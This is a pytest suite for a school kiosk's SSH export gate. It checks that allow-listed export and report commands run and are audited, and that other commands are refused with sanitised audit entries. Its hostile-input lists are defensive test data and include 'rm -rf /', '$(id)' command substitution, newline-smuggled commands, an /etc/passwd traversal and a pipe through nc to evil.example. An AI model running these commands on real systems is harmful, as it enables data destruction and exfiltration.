"""`kiosk ssh-export`, the forced command of the export account: allow-list only, all audited."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from kiosk.cli.main import main
from kiosk.services.admin.ssh_gate import Refused, check_ssh_command
from kiosk.services.context import KioskContext
from tests.admin.seeding import phone, visit
from tests.conftest import kiosk_cli

CLIENT = "192.0.2.7 52144 22"


def ssh(context: KioskContext, command: str | None, **extra: str):
    """As sshd runs it: the forced command's environment sets the data folder."""
    env = {"KIOSK_DATA_DIR": str(context.store.data_dir), "SSH_CLIENT": CLIENT, **extra}
    if command is not None:
        env["SSH_ORIGINAL_COMMAND"] = command
    return kiosk_cli("ssh-export", env=env)


def audit_actions(context: KioskContext) -> list[tuple[str, str]]:
    return [(e["action"], e["detail"]) for e in context.store.audit_entries()]


@pytest.fixture
def seeded(context: KioskContext) -> KioskContext:
    visit(context, "2026-09-10T09:00", name="Sam Kirk", signed_out="2026-09-10T10:00")
    visit(context, "2026-11-25T08:30", name="Zoë Lane")
    phone(context, "2026-11-25T08:40", pupil="Alex Brown")
    return context


def test_each_allowed_command_works_and_is_audited(seeded: KioskContext) -> None:
    before = len(seeded.store.audit_entries())

    visits = ssh(seeded, "export visits --since 2026-09-01")
    as_json = ssh(seeded, "export phones --format json")
    audit = ssh(seeded, "export audit --since=2026-11-01 --until=2026-11-30 --format=csv")
    onsite = ssh(seeded, "onsite")
    onsite_json = ssh(seeded, "onsite --format json")
    phones = ssh(seeded, "phones --all --format csv")
    verify = ssh(seeded, "audit verify")

    for result in (visits, as_json, audit, onsite, onsite_json, phones, verify):
        assert result.returncode == 0, result.stderr
    for result in (onsite, onsite_json, phones, verify):
        assert result.stderr == ""
    for result in (visits, as_json, audit):  # exports: the head to save, after the data
        assert result.stderr.startswith("audit head: ") and result.stderr.count("\n") == 1
    names = [r["name"] for r in csv.DictReader(io.StringIO(visits.stdout))]
    assert names == ["Sam Kirk", "Zoë Lane"]
    assert [p["pupil_name"] for p in json.loads(as_json.stdout)] == ["Alex Brown"]
    assert audit.stdout.startswith('"seq","at","actor"')
    assert ": 1 person" in onsite.stdout and "Zoë Lane" in onsite.stdout
    assert [p["name"] for p in json.loads(onsite_json.stdout)] == ["Zoë Lane"]
    assert "Alex Brown" in phones.stdout
    assert verify.stdout.startswith("audit trail intact:")

    logged = audit_actions(seeded)[before:]
    assert [a for a, _ in logged] == ["ssh-command"] * 7
    assert logged[0][1] == "from 192.0.2.7: export visits --since 2026-09-01"


def test_a_mistake_in_an_allowed_command_is_the_usual_one_line(seeded: KioskContext) -> None:
    result = ssh(seeded, "export visits --since 2026-13-45")
    assert result.returncode == 2
    assert result.stderr.strip() == "kiosk: --since 2026-13-45 is not a date (use YYYY-MM-DD)"


# The list, each run as sshd would run it: a real process.
HOSTILE = [
    "staff add x",
    "export visits; rm -rf /",
    "$(id)",
    "--data-dir /etc",
    "export visits --output /tmp/x",
    "export visits\nstaff add x",
    "x" * 10_000,
]
# More of the same, run in-process through the same entry point (main), to keep the suite fast.
MORE_HOSTILE = [
    "staff list",
    "close-day",
    "purge",
    "run",
    "export visits && reboot",
    "export visits | nc evil.example 80",
    "export visits > /tmp/x",
    "export `id`",
    "export visits --since $(id)",
    "export visits --data-dir /etc",
    "export visits --data-dir=/etc",
    "export visits --config /tmp/evil.toml",
    "audit verify --config=x",
    "export visits --out /tmp/x",
    "export visits --force",
    "export visits\r\nstaff add x",
    "export 'visits'",
    "export visits --since '2026-01-01'",
    "export ../../etc/passwd",
    "export visits extra",
    "export",
    "audit",
    "audit tamper",
    "onsite --format pdf",
    "onsite --format=../x",
    "phones --all=yes",
    "export visits --since",
    "export visits --since 2026-01-01T00:00",
    "export visits -o x",
    "export visits \\",
    "export visits\tstaff",
    "\u0435xport visits",
    "export visits " + "--since 2026-01-01 " * 40,
]


def assert_refused_and_audited(context, before, returncode, stdout, stderr) -> None:
    assert returncode == 2
    assert stdout == ""
    lines = stderr.splitlines()
    assert lines[0].startswith("kiosk ssh-export: refused: ")
    assert len(lines) <= 2  # the refusal, and for some a usage line
    assert "Traceback" not in stderr
    logged = context.store.audit_entries()[before:]
    assert [e["action"] for e in logged] == ["ssh-refused"]
    detail = logged[0]["detail"]
    assert detail.startswith("from 192.0.2.7: ")
    assert detail.isprintable() and detail.isascii()  # no newline or escape reaches the trail
    assert len(detail) < 450


@pytest.mark.parametrize("command", HOSTILE, ids=[repr(c[:30]) for c in HOSTILE])
def test_hostile_commands_are_refused_and_audited(context: KioskContext, command):
    before = len(context.store.audit_entries())
    x_existed = Path("/tmp/x").exists()

    result = ssh(context, command)

    assert_refused_and_audited(context, before, result.returncode, result.stdout, result.stderr)
    assert Path("/tmp/x").exists() == x_existed


@pytest.mark.parametrize("command", MORE_HOSTILE, ids=[repr(c[:30]) for c in MORE_HOSTILE])
def test_more_hostile_commands_are_refused_and_audited(
    context: KioskContext, monkeypatch, capsys, command
):
    monkeypatch.setenv("KIOSK_DATA_DIR", str(context.store.data_dir))
    monkeypatch.setenv("SSH_CLIENT", CLIENT)
    monkeypatch.setenv("SSH_ORIGINAL_COMMAND", command)
    before = len(context.store.audit_entries())

    returncode = main(["ssh-export"])

    out, err = capsys.readouterr()
    assert_refused_and_audited(context, before, returncode, out, err)


def test_an_empty_command_shows_the_usage(context: KioskContext) -> None:
    for command in (None, "", "   "):
        result = ssh(context, command)
        assert result.returncode == 2
        first, usage = result.stderr.splitlines()
        assert first.startswith("kiosk ssh-export: refused: no command given")
        assert usage.startswith("usage: ssh kiosk-export@HOST COMMAND")
    assert [e["action"] for e in context.store.audit_entries()] == ["ssh-refused"] * 3


def test_the_refusal_audit_keeps_only_a_sanitised_excerpt(context: KioskContext) -> None:
    ssh(context, "export visits\nstaff add x")
    ssh(context, "y" * 10_000)
    first, second = (e["detail"] for e in context.store.audit_entries())
    assert first.endswith("export visits\\nstaff add x")
    assert "y" * 200 + "... (10000 characters)" in second and "y" * 201 not in second


def test_the_data_folder_comes_from_the_forced_command_not_the_client(seeded, tmp_path) -> None:
    # The forced command may also name the folder itself: `kiosk ssh-export --data-dir ...`.
    env = {"SSH_ORIGINAL_COMMAND": "onsite --format json", "SSH_CLIENT": CLIENT}
    result = kiosk_cli("ssh-export", "--data-dir", str(seeded.store.data_dir), env=env)
    assert result.returncode == 0, result.stderr
    assert [p["name"] for p in json.loads(result.stdout)] == ["Zoë Lane"]


def test_ssh_never_honours_a_faked_clock(seeded: KioskContext) -> None:
    result = ssh(seeded, "onsite", KIOSK_FAKE_NOW="2030-01-01T00:00:00")
    assert result.returncode == 0
    assert "2030" not in result.stdout


def test_when_the_audit_cannot_be_written_nothing_is_handed_out(seeded) -> None:
    lock = seeded.store.lock_path
    lock.unlink(missing_ok=True)
    lock.mkdir()  # cannot be opened for writing, even by root: stands in for a read-only account

    refused = ssh(seeded, "staff add x")
    allowed = ssh(seeded, "onsite")

    assert refused.returncode == 2
    assert refused.stderr.startswith("kiosk ssh-export: refused: 'staff' is not allowed")
    assert "could not be written to the audit trail" in refused.stderr.splitlines()[0]
    # Issue 9.4: data the kiosk could not audit does not leave it.
    assert allowed.returncode == 3 and allowed.stdout == ""
    assert allowed.stderr.startswith("kiosk ssh-export: refused: the export could not be written")
    assert len(allowed.stderr.splitlines()) == 1


@pytest.mark.skipif(os.geteuid() == 0, reason="root ignores file permissions")
def test_a_read_only_account_is_refused_without_a_traceback(seeded: KioskContext) -> None:
    folder = seeded.store.data_dir
    seeded.store.lock_path.touch()
    seeded.store.lock_path.chmod(0o400)
    folder.chmod(0o500)
    try:
        result = ssh(seeded, "purge")
    finally:
        folder.chmod(0o750)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "could not be written to the audit trail" in result.stderr


def test_gate_unit_allows_exactly_the_listed_forms() -> None:
    assert check_ssh_command("export visits") == ["export", "visits"]
    assert check_ssh_command("  phones   --all ") == ["phones", "--all"]
    assert check_ssh_command("audit verify") == ["audit", "verify"]
    assert check_ssh_command("audit head") == ["audit", "head"]
    anchor = "12:" + "a" * 64
    assert check_ssh_command(f"audit verify --anchor {anchor}")[-1] == anchor
    with pytest.raises(Refused, match="is not SEQ:HASH"):
        check_ssh_command("audit verify --anchor 12:zz")
    assert check_ssh_command("export --help") == ["export", "--help"]
    staff = "export staff-attendance --from 2026-09-01 --to 2026-12-18 --format json"
    assert check_ssh_command(staff) == staff.split()
    exports = "attendance, audit, incidents, phones, staff-attendance, visits"
    with pytest.raises(Refused, match=f"export needs one of: {exports}"):
        check_ssh_command("export --since 2026-01-01")
    with pytest.raises(Refused, match="--output is not allowed over SSH"):
        check_ssh_command("export visits --output=x")


def test_the_phone_policy_reports_can_be_fetched_over_ssh(seeded: KioskContext) -> None:
    """The office's weekly pull includes the per-pupil report and the behaviour-system feed."""
    before = len(seeded.store.audit_entries())

    report = ssh(seeded, "report phones --since 2026-11-01 --until 2026-11-30 --format csv")
    term = ssh(seeded, "report phones --term current")
    incidents = ssh(seeded, "export incidents --since 2026-11-01 --format json")

    for result in (report, term, incidents):
        assert result.returncode == 0, result.stderr
    assert "Alex Brown" in report.stdout
    assert isinstance(json.loads(incidents.stdout), list)
    logged = audit_actions(seeded)[before:]
    assert [a for a, _ in logged] == ["ssh-command"] * 3


def test_report_words_are_checked_like_the_others() -> None:
    assert check_ssh_command("report phones --term 2026-1") == [
        "report",
        "phones",
        "--term",
        "2026-1",
    ]
    with pytest.raises(Refused, match="--term 'autumn' is not"):
        check_ssh_command("report phones --term autumn")
    with pytest.raises(Refused, match="report needs one of: attendance, fire, phones"):
        check_ssh_command("report")
    with pytest.raises(Refused, match="--output is not allowed over SSH"):
        check_ssh_command("report phones --output x")
